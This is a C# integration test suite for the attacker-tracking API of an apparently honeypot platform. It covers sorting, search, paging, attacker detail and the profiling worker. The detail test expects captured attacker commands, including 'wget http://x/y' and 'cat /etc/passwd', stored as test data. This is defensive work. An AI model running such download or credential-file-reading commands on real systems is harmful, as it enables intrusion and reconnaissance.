using System.Net;
using System.Text.Json;
using Decnet.Core.Attackers;
using Decnet.Core.Events;
using Decnet.Core.Notifications;
using Decnet.Core.Storage;
using Decnet.Core.Users;
using Decnet.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace Decnet.Tests.Attackers;

[Trait("Category", TestCategories.Integration)]
public abstract class AttackersApiTests(StorageProvider provider) : IAsyncLifetime
{
    public sealed class OnSqlite() : AttackersApiTests(StorageProvider.Sqlite);

    public sealed class OnPostgres() : AttackersApiTests(StorageProvider.Postgres);

    private DecnetWebFactory _factory = null!;
    private HttpClient _viewer = null!;

    public async ValueTask InitializeAsync()
    {
        _factory = await DecnetWebFactory.CreateAsync(provider);
        _factory.CreateClient().Dispose();
        _viewer = _factory.CreateClient((await _factory.CreateActiveUserAsync("watcher", UserRole.Viewer)).Token);
    }

    public async ValueTask DisposeAsync()
    {
        _viewer.Dispose();
        await _factory.DisposeAsync();
    }

    private async Task SeedAsync()
    {
        var rows = AttackerSeed.Scenario().ToList();
        // A third attacker, busiest of all but on one decky, and an IP with LIKE metacharacters nearby.
        rows.AddRange(Enumerable.Range(0, 12).Select(i => AttackerSeed.Log(100 + i, "decky-03", "redis", "auth_attempt", "192.0.2.50", """{"password":"x"}""")));
        await AttackerSeed.AddAsync(_factory.Services, rows.ToArray());
        await _factory.Services.GetRequiredService<AttackerProfiler>().RunOnceAsync(CancellationToken.None);
    }

    private async Task<JsonElement> GetAsync(string url)
    {
        var response = await _viewer.GetAsync(url);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{url}: {response.StatusCode} {await response.Content.ReadAsStringAsync()}");
        return JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
    }

    private static List<string?> Ips(JsonElement page) => page.GetProperty("data").EnumerateArray().Select(a => a.GetProperty("ip").GetString()).ToList();

    [Fact]
    public async Task List_sorts_searches_filters_and_pages()
    {
        await SeedAsync();

        var recent = await GetAsync("/api/v1/attackers");
        Assert.Equal(3, recent.GetProperty("total").GetInt32());
        Assert.Equal(50, recent.GetProperty("limit").GetInt32());
        Assert.Equal(["192.0.2.50", "198.51.100.7", "203.0.113.9"], Ips(recent));
        var first = recent.GetProperty("data")[0];
        Assert.Equal(BehaviorAnalyzer.BruteForce, first.GetProperty("behavior").GetProperty("behavior_class").GetString());

        Assert.Equal(["192.0.2.50", "198.51.100.7", "203.0.113.9"], Ips(await GetAsync("/api/v1/attackers?sort_by=active")));
        var traversals = await GetAsync("/api/v1/attackers?sort_by=traversals");
        Assert.Equal("198.51.100.7", Ips(traversals)[0]);
        Assert.Equal("decky-01 → decky-02", traversals.GetProperty("data")[0].GetProperty("traversal_path").GetString());
        Assert.True(traversals.GetProperty("data")[0].GetProperty("is_traversal").GetBoolean());

        Assert.Equal(["198.51.100.7"], Ips(await GetAsync("/api/v1/attackers?search=51.100")));
        // LIKE metacharacters are literal: "_" matches no address, "%" neither.
        Assert.Equal(0, (await GetAsync("/api/v1/attackers?search=_")).GetProperty("total").GetInt32());
        Assert.Equal(0, (await GetAsync("/api/v1/attackers?search=%25")).GetProperty("total").GetInt32());
        Assert.Equal(["192.0.2.50"], Ips(await GetAsync("/api/v1/attackers?service=redis")));
        Assert.Equal(["198.51.100.7", "203.0.113.9"], Ips(await GetAsync("/api/v1/attackers?service=http")));

        var paged = await GetAsync("/api/v1/attackers?limit=1&offset=1");
        Assert.Equal(3, paged.GetProperty("total").GetInt32());
        Assert.Equal(["198.51.100.7"], Ips(paged));

        Assert.Equal(HttpStatusCode.BadRequest, (await _viewer.GetAsync("/api/v1/attackers?limit=0")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await _viewer.GetAsync("/api/v1/attackers?limit=1001")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await _viewer.GetAsync("/api/v1/attackers?sort_by=loudest")).StatusCode);
    }

    [Fact]
    public async Task Detail_commands_and_artifacts_of_one_attacker_and_404_for_unknown_ids()
    {
        await SeedAsync();
        var id = (await GetAsync("/api/v1/attackers?search=198.51.100.7")).GetProperty("data")[0].GetProperty("uuid").GetString();

        var detail = await GetAsync($"/api/v1/attackers/{id}");
        Assert.Equal("198.51.100.7", detail.GetProperty("ip").GetString());
        Assert.Equal(7, detail.GetProperty("event_count").GetInt32());
        Assert.Equal(3, detail.GetProperty("command_count").GetInt32());
        Assert.Contains("libssh", detail.GetProperty("behavior").GetProperty("tool_guesses").EnumerateArray().Select(t => t.GetString()));
        Assert.Equal(7, detail.GetProperty("behavior").GetProperty("timing_stats").GetProperty("event_count").GetInt32());

        var commands = await GetAsync($"/api/v1/attackers/{id}/commands?limit=2");
        Assert.Equal(3, commands.GetProperty("total").GetInt32());
        Assert.Equal(["wget http://x/y", "cat /etc/passwd"], commands.GetProperty("data").EnumerateArray().Select(c => c.GetProperty("cmd").GetString()));
        var second = await GetAsync($"/api/v1/attackers/{id}/commands?limit=2&offset=2");
        Assert.Equal("uname -a", second.GetProperty("data")[0].GetProperty("cmd").GetString());
        Assert.Equal(0, (await GetAsync($"/api/v1/attackers/{id}/commands?service=http")).GetProperty("total").GetInt32());
        Assert.Equal(3, (await GetAsync($"/api/v1/attackers/{id}/commands?service=ssh")).GetProperty("total").GetInt32());
        Assert.Equal(HttpStatusCode.BadRequest, (await _viewer.GetAsync($"/api/v1/attackers/{id}/commands?limit=201")).StatusCode);

        var artifacts = await GetAsync($"/api/v1/attackers/{id}/artifacts");
        Assert.Equal(1, artifacts.GetProperty("total").GetInt32());
        Assert.Equal("a.bin", artifacts.GetProperty("data")[0].GetProperty("fields").GetProperty("stored_as").GetString());

        var ghost = Guid.NewGuid();
        Assert.Equal(HttpStatusCode.NotFound, (await _viewer.GetAsync($"/api/v1/attackers/{ghost}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await _viewer.GetAsync($"/api/v1/attackers/{ghost}/commands")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await _viewer.GetAsync($"/api/v1/attackers/{ghost}/artifacts")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await _viewer.GetAsync("/api/v1/attackers/not-a-guid")).StatusCode);
    }

    [Fact]
    public async Task The_worker_profiles_after_an_ingest_notification_and_announces_the_ips()
    {
        var hub = _factory.Services.GetRequiredService<NotificationHub>();
        var announced = new TaskCompletionSource<AttackerUpdated>(TaskCreationOptions.RunContinuationsAsynchronously);
        using var subscription = hub.Subscribe<AttackerUpdated>(u =>
        {
            if (u.Ips.Contains("203.0.113.9"))
            {
                announced.TrySetResult(u);
            }
            return Task.CompletedTask;
        });
        await AttackerSeed.AddAsync(_factory.Services, AttackerSeed.Scenario());
        hub.Publish(new EventsIngested(9, 9, []));

        var update = await announced.Task.WaitAsync(TimeSpan.FromSeconds(20));
        Assert.Contains("198.51.100.7", update.Ips);
        Assert.Equal(2, (await GetAsync("/api/v1/attackers")).GetProperty("total").GetInt32());
    }
}
